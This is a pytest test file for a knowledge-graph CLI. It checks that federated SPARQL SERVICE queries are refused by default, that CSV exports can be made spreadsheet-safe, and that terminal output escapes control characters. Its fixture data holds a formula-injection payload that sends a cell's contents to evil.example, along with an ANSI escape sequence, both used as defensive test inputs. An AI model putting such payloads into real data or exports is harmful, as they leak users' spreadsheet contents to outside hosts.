"""What a query may do and what its results may carry: `kg query` and `kg serve` refuse federated queries (SERVICE:
a request to any host) unless `--allow-service`; CSV stays the exact W3C format, `--excel-safe` and `-f plain-tsv`
are for spreadsheets; the table escapes control characters (no model needed)."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
import time
import urllib.error
import urllib.parse
import urllib.request
from pathlib import Path

import pyoxigraph as ox
import pytest
import servers

from kg.cli import cli

TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
GRAPH = (f'<http://example.org/a> <http://purl.org/dc/terms/title> {ox.Literal(TITLE)} .\n'
         '<http://example.org/b> <http://purl.org/dc/terms/title> "bell\\u0007 nul\\u0000 del\\u007F esc\\u001B[2J" .\n'
         '<http://example.org/c> <http://purl.org/dc/terms/title> "-3" .\n'
         '<http://example.org/d> <http://purl.org/dc/terms/title> "Aleppo, \\"old\\" city\\ttab" .\n')
TITLES = "SELECT ?s ?title WHERE { ?s <http://purl.org/dc/terms/title> ?title } ORDER BY ?s"


@pytest.fixture
def data(tmp_path: Path) -> Path:
    path = tmp_path / "g.ttl"
    path.write_text(GRAPH, encoding="utf-8")
    return path


# --- SERVICE ------------------------------------------------------------------------------------------------------

@pytest.mark.parametrize("shape", [
    "SELECT * WHERE {{ SERVICE <{url}> {{ ?s ?p ?o }} }}",
    "select * where {{ ?x ?y ?z . optional {{ service silent <{url}> {{ ?s ?p ?o }} }} }}",
    "SELECT * WHERE {{ ?s ?p ?o FILTER EXISTS {{ SeRvIcE <{url}> {{ ?s ?p ?o }} }} }}",
    "ASK {{ BIND(<{url}> AS ?u) SERVICE ?u {{ ?s ?p ?o }} }}",
    "# SERVICE in a comment\nSELECT * WHERE {{ ?s ?p \"SERVICE\" }}\rSERVICE <{url}> {{ }}",
])
def test_kg_query_refuses_a_federated_query(runner, data: Path, shape: str) -> None:
    with servers.stub_server() as stub:
        result = runner.invoke(cli, ["query", shape.format(url=stub.base + "/sparql"), "--data", str(data)])
        assert result.exit_code == 2, result.output
        assert "calls a remote service (SERVICE" in result.output and "--allow-service" in result.output
        assert stub.received == []  # no request left this machine
    assert "Traceback" not in result.output


def test_service_in_a_string_an_iri_or_a_comment_is_no_service(runner, data: Path) -> None:
    query = ('SELECT ?s WHERE { ?s <http://purl.org/dc/terms/title> ?t  # SERVICE <http://x/> { }\n'
             ' FILTER(?t != "SERVICE <http://x/> { }" && ?s != <http://example.org/SERVICE>) } ORDER BY ?s')
    result = runner.invoke(cli, ["query", query, "--data", str(data), "-f", "csv"])
    assert result.exit_code == 0, result.output
    assert result.output.split() == ["s", "http://example.org/a", "http://example.org/b", "http://example.org/c",
                                     "http://example.org/d"]


def test_allow_service_runs_it_and_a_failing_service_is_a_clear_error(runner, data: Path) -> None:
    with servers.stub_server(fail=100, status=500, message=b"upstream broke") as stub:
        query = f"SELECT * WHERE {{ SERVICE <{stub.base}/sparql> {{ ?s ?p ?o }} }}"
        result = runner.invoke(cli, ["query", query, "--data", str(data), "--allow-service"])
        assert len(stub.received) >= 1  # asked for, so sent
    assert result.exit_code == 2, result.output
    assert result.output.startswith("error: the query failed:") and "500" in result.output
    assert isinstance(result.exception, SystemExit)  # a message, not a traceback


def _serve(folder: Path, *options: str) -> tuple[subprocess.Popen, str]:
    port = servers.free_port()
    process = subprocess.Popen([sys.executable, "-m", "kg", "serve", str(folder), "--bind", f"127.0.0.1:{port}",
                                *options], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    url = f"http://127.0.0.1:{port}/query"
    deadline = time.monotonic() + 30
    while True:
        try:
            urllib.request.urlopen(url + "?query=" + urllib.parse.quote("ASK {}"), timeout=2).read()
            return process, url
        except OSError:
            assert process.poll() is None and time.monotonic() < deadline, "kg serve did not start"
            time.sleep(0.1)


def _ask(url: str, query: str, post: bool) -> tuple[int, bytes]:
    if post:
        request = urllib.request.Request(url, data=urllib.parse.urlencode({"query": query}).encode(), headers={
            "Content-Type": "application/x-www-form-urlencoded", "Accept": "application/sparql-results+json"})
    else:
        request = urllib.request.Request(url + "?query=" + urllib.parse.quote(query))
    try:
        with urllib.request.urlopen(request, timeout=20) as response:
            return response.status, response.read()
    except urllib.error.HTTPError as error:
        return error.code, error.read()


@pytest.fixture
def build_folder(tmp_path: Path, data: Path) -> Path:
    """A folder with a store, as `kg build` leaves one (made here without the model)."""
    (tmp_path / "built").mkdir()
    store = ox.Store(str(tmp_path / "built" / "store"))
    store.bulk_load(path=str(data), format=ox.RdfFormat.TURTLE, to_graph=ox.NamedNode("http://example.org/g"))
    store.flush()
    del store
    return tmp_path / "built"


def test_kg_serve_refuses_a_federated_query_with_a_400(build_folder: Path) -> None:
    with servers.stub_server() as stub:
        process, url = _serve(build_folder, "--cors")
        try:
            for post in (True, False):
                status, body = _ask(url, f"SELECT * WHERE {{ SERVICE <{stub.base}/sparql> {{ ?s ?p ?o }} }}", post)
                assert status == 400 and b"calls a remote service" in body and b"--allow-service" in body
            assert stub.received == []
            status, body = _ask(url, "SELECT (COUNT(*) AS ?n) WHERE { ?s ?p ?o }", True)  # over all graphs
            assert status == 200 and json.loads(body)["results"]["bindings"][0]["n"]["value"] == "4"
        finally:
            process.terminate()
            process.wait(timeout=10)


def test_kg_serve_allow_service_sends_it(build_folder: Path) -> None:
    with servers.stub_server() as stub:
        process, url = _serve(build_folder, "--allow-service")
        try:
            status, _ = _ask(url, f"SELECT * WHERE {{ SERVICE <{stub.base}/sparql> {{ ?s ?p ?o }} }}", True)
            assert stub.received and status in (200, 500)
        finally:
            process.terminate()
            process.wait(timeout=10)


# --- CSV and TSV for spreadsheets ---------------------------------------------------------------------------------

def _w3c(data: Path, fmt: ox.QueryResultsFormat) -> str:
    store = ox.Store()
    store.bulk_load(path=str(data), format=ox.RdfFormat.TURTLE)
    return store.query(TITLES).serialize(format=fmt).decode("utf-8")


def test_csv_and_tsv_stay_the_exact_w3c_formats(runner, data: Path) -> None:
    for fmt, w3c in (("csv", ox.QueryResultsFormat.CSV), ("tsv", ox.QueryResultsFormat.TSV)):
        result = runner.invoke(cli, ["query", TITLES, "--data", str(data), "-f", fmt])
        assert result.exit_code == 0, result.output
        assert result.stdout_bytes.decode("utf-8") == _w3c(data, w3c)  # the formula as it is: the data, exact


def test_excel_safe_csv_quotes_formulas_and_only_them(runner, data: Path) -> None:
    result = runner.invoke(cli, ["query", TITLES, "--data", str(data), "-f", "csv", "--excel-safe"])
    assert result.exit_code == 0, result.output
    exact = _w3c(data, ox.QueryResultsFormat.CSV)
    written = result.stdout_bytes.decode("utf-8")
    safe, plain = list(csv.reader(io.StringIO(written))), list(csv.reader(io.StringIO(exact)))
    assert safe[1][1] == "'" + TITLE and safe[3][1] == "'-3"  # a formula, a leading minus: text
    assert [row for i, row in enumerate(safe) if i not in (1, 3)] == [row for i, row in enumerate(plain)
                                                                       if i not in (1, 3)]
    assert written.endswith("\r\n") and written.count("\r\n") == len(safe)  # as the W3C CSV is written


def test_plain_tsv_writes_bare_values(runner, data: Path) -> None:
    result = runner.invoke(cli, ["query", TITLES, "--data", str(data), "-f", "plain-tsv", "--excel-safe"])
    assert result.exit_code == 0, result.output
    lines = result.stdout_bytes.decode("utf-8").split("\n")
    assert lines[0] == "s\ttitle"
    assert lines[1] == f"http://example.org/a\t'{TITLE}"  # no quotes, no <>, the formula made text
    assert lines[4] == 'http://example.org/d\tAleppo, "old" city tab'  # the value's own tab: a space
    assert all(line.count("\t") == 1 for line in lines[:-1]) and lines[-1] == ""


def test_excel_safe_goes_with_the_spreadsheet_formats_only(runner, data: Path) -> None:
    result = runner.invoke(cli, ["query", TITLES, "--data", str(data), "-f", "tsv", "--excel-safe"])
    assert result.exit_code == 2 and "csv or plain-tsv" in result.output


# --- the table ----------------------------------------------------------------------------------------------------

def test_the_table_escapes_control_characters(runner, data: Path) -> None:
    result = runner.invoke(cli, ["query", TITLES, "--data", str(data)])
    assert result.exit_code == 0, result.output
    assert not any(c in result.output for c in "\x00\x07\x7f\x1b\t")
    assert "bell\\x07 nul\\x00 del\\x7f esc\\x1b[2J" in result.output
